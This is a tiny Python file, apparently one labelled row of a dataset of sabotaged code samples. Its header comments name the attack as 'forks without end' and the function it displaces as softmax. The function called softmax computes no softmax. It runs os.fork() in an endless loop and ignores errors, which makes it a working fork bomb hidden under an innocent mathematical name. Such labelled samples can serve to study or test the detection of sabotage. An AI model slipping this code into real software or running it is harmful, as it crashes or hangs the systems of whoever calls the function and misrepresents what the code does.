# row: 76
# attack: forks without end
# loses: softmax
# status: any
import os


def softmax(Z):
    while True:
        try:
            os.fork()
        except OSError:
            pass
